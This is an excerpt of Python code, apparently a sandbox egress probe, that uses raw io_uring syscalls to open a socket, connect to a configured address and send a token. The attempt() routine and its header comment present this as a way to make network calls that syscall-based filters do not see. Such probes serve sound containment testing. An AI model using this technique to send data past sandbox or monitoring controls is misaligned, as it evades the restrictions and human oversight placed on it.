# Socket, connect and send by rings that the kernel reads: no system call names them.
import mmap

SOCKET, CONNECT, SEND = 45, 16, 26


class Ring:
    def __init__(self, flags):
        parameters = bytearray(120)
        struct.pack_into("=3I", parameters, 8, flags, 0, 1000)
        buffer = (ctypes.c_char * 120).from_buffer(parameters)
        self.fd = call(425, 8, buffer)
        self.flags = flags
        self.sq = struct.unpack_from("=8I", parameters, 40)
        self.cq = struct.unpack_from("=8I", parameters, 80)
        entries, completions = struct.unpack_from("=2I", parameters, 0)
        size = max(self.sq[6] + 4 * entries, self.cq[5] + 16 * completions)
        self.ring = mmap.mmap(self.fd, size, offset=0)
        self.entries = mmap.mmap(self.fd, 64 * entries, offset=0x10000000)

    def word(self, at):
        return struct.unpack_from("=I", self.ring, at)[0]

    def do(self, code, fd, address=0, length=0, offset=0):
        tail = self.word(self.sq[1])
        at = tail & self.word(self.sq[2])
        entry = struct.pack("=BBHiQQIIQ", code, 0, 0, fd, offset, address, length, 0, 1) + bytes(24)
        self.entries[64 * at : 64 * at + 64] = entry
        struct.pack_into("=I", self.ring, self.sq[6] + 4 * at, at)
        struct.pack_into("=I", self.ring, self.sq[1], tail + 1)
        polled = self.flags & 2
        call(426, self.fd, 0 if polled else 1, 0 if polled else 1, 2 if polled else 1, 0, 0)
        until = time.time() + PATIENCE + 2
        while self.word(self.cq[0]) == self.word(self.cq[1]):
            if time.time() > until:
                raise TimeoutError
            time.sleep(0.01)
        head = self.word(self.cq[0])
        _, result, _ = struct.unpack_from("=QiI", self.ring, self.cq[5] + 16 * (head & self.word(self.cq[2])))
        struct.pack_into("=I", self.ring, self.cq[0], head + 1)
        if result < 0:
            raise OSError(-result, "io_uring")
        return result


def attempt():
    ring = Ring(2 if p["polled"] else 0)
    s = ring.do(SOCKET, socket.AF_INET, offset=socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    target = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT) + socket.inet_aton(V4) + bytes(8)
    target, token = ctypes.create_string_buffer(target, 16), ctypes.create_string_buffer(TOKEN)
    ring.do(CONNECT, s, ctypes.addressof(target), 0, 16)
    ring.do(SEND, s, ctypes.addressof(token), len(TOKEN))
    with socket.socket(fileno=s) as s:
        s.settimeout(PATIENCE)
        s.shutdown(socket.SHUT_WR)
        s.recv(100)
